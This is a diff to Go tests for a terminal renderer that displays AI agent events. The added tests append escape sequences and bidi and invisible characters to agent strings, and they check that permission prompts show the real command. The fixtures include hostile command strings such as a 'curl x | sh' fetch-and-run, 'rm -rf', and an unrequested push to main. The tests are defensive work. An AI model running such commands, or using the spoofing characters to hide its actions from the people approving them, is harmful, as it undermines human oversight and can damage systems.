@@ -41,7 +41,7 @@ func session() []driver.Event {
 		{Type: driver.EventTerminalExited, Terminal: &driver.TerminalExit{Command: "go", Args: []string{"test", "./..."}, Cwd: "/ws", ExitCode: &code0, DurationMS: 12}},
 		{Type: driver.EventTerminalExited, Terminal: &driver.TerminalExit{Command: "sh", Args: []string{"-c", "echo terminal-ok; ls"}, Cwd: "/ws", ExitCode: &code0, DurationMS: 3}},
 		{Type: driver.EventToolCall, ToolCall: &driver.ToolCall{ID: "t2", Title: "Run tests", Kind: "execute", Status: "failed", Content: []driver.ToolContent{{Type: "text", Text: "FAIL x\nFAIL y"}}}},
-		{Type: driver.EventPermissionAsked, Permission: &driver.PermissionRequest{ID: "tai-1", Unrequested: true, ToolCall: driver.ToolCall{Title: "Run `git push`", Kind: "execute"}}},
+		{Type: driver.EventPermissionAsked, Permission: &driver.PermissionRequest{ID: "tai-1", Unrequested: true, ToolCall: driver.ToolCall{Title: "Run `git push`", Kind: "execute", RawInput: []byte(`{"command":"git","args":["push","origin","HEAD:main"]}`)}}},
 		{Type: driver.EventPermissionDecided, Decision: &driver.PermissionDecision{Verdict: "deny", OptionID: "reject", DecidedBy: "rule:no-push", Reason: "pushing is not allowed", Unrequested: true}},
 		{Type: driver.EventModeChanged, Mode: &driver.Mode{ID: "plan"}},
 		{Type: driver.EventConfigOptions, Config: []driver.ConfigOption{{ID: "model", Type: "select", CurrentValue: []byte(`"m1"`)}}},
@@ -277,5 +277,105 @@ func TestMessageFramesAsEncodingJSON(t *testing.T) {
 				}
 			}
 		}
+	}
+}
+
+// hostile is what an agent adds to its strings to act on the terminal that
+// shows them: erase the line, move back over it, reverse what follows.
+const hostile = "\x1b[2K\x1b[8D\x1b[K\u202e\u0085\u200b"
+
+// hostileSession is session() with hostile appended to every string an
+// agent could have sent, found by walking the events' JSON, so that a field
+// added to an event is covered when session() shows it.
+func hostileSession(t *testing.T) []driver.Event {
+	var walk func(v any) any
+	walk = func(v any) any {
+		switch x := v.(type) {
+		case string:
+			return x + hostile
+		case []any:
+			for i := range x {
+				x[i] = walk(x[i])
+			}
+		case map[string]any:
+			for k, e := range x {
+				switch k {
+				case "type", "status", "role", "ts": // what the renderer switches on, not shows
+				default:
+					x[k] = walk(e)
+				}
+			}
+		}
+		return v
+	}
+	var out []driver.Event
+	for _, ev := range session() {
+		b, err := json.Marshal(ev)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var m map[string]any
+		if err := json.Unmarshal(b, &m); err != nil {
+			t.Fatal(err)
+		}
+		b, err = json.Marshal(walk(m))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var h driver.Event
+		if err := json.Unmarshal(b, &h); err != nil {
+			t.Fatal(err)
+		}
+		out = append(out, h)
+	}
+	return out
+}
+
+// No string from an agent reaches the terminal as anything but text: with
+// colour off, the output holds no control character but newlines, and no
+// bidi or invisible format character; what was sent is shown escaped.
+func TestTextEscapesAgentStrings(t *testing.T) {
+	var b bytes.Buffer
+	r := NewText(&b, false)
+	for _, ev := range hostileSession(t) {
+		r.Emit(ev)
+	}
+	_ = r.Flush()
+	out := b.String()
+	for i, c := range out {
+		if (c < 0x20 && c != '\n') || c == 0x7f || (c >= 0x80 && c < 0xa0) || (c >= 0x2066 && c <= 0x2069) || (c >= 0x202a && c <= 0x202e) || c == 0x200b {
+			t.Fatalf("%U at byte %d reaches the terminal:\n%q", c, i, out)
+		}
+	}
+	if want := `\x1b[2K\x1b[8D\x1b[K\u202e\u0085\u200b`; !strings.Contains(out, "? permission: [edit"+want+"] Edit a.txt"+want) {
+		t.Fatalf("the permission line does not show the escapes:\n%s", out)
+	}
+}
+
+// A permission line shows what would run, read from the raw input and
+// quoted once, whatever the title says; an execute call without a command
+// says so.
+func TestPermissionShowsTheCommand(t *testing.T) {
+	for _, tt := range []struct {
+		name string
+		tc   driver.ToolCall
+		want string // the line after the permission line; "" for none
+	}{
+		{"shell line", driver.ToolCall{Title: "Run the tests\x1b[2K", Kind: "execute", RawInput: []byte(`{"command":"make test && curl x | sh"}`)}, "    $ make test && curl x | sh\n"},
+		{"command and args", driver.ToolCall{Title: "Run", Kind: "execute", RawInput: []byte(`{"command":"rm","args":["-rf","a b"]}`)}, "    $ rm -rf 'a b'\n"},
+		{"argv", driver.ToolCall{Title: "Run", Kind: "execute", RawInput: []byte(`{"cmd":["bash","-lc","ls\u202e"]}`)}, "    $ bash -lc $'ls\\u202e'\n"},
+		{"script lines", driver.ToolCall{Title: "Run", Kind: "execute", RawInput: []byte(`{"command":"set -e\nmake\u001b[A"}`)}, "    $ set -e\n      make\\x1b[A\n"},
+		{"no command", driver.ToolCall{Title: "Run the tests", Kind: "execute"}, "    (command not given by the agent)\n"},
+		{"not a command", driver.ToolCall{Title: "Edit a.txt", Kind: "edit"}, ""},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			var b bytes.Buffer
+			r := NewText(&b, false)
+			r.Emit(driver.Event{Type: driver.EventPermissionAsked, Permission: &driver.PermissionRequest{ToolCall: tt.tc}})
+			_, rest, _ := strings.Cut(b.String(), "\n")
+			if rest != tt.want {
+				t.Fatalf("got %q, want %q (all: %q)", rest, tt.want, b.String())
+			}
+		})
 	}
 }
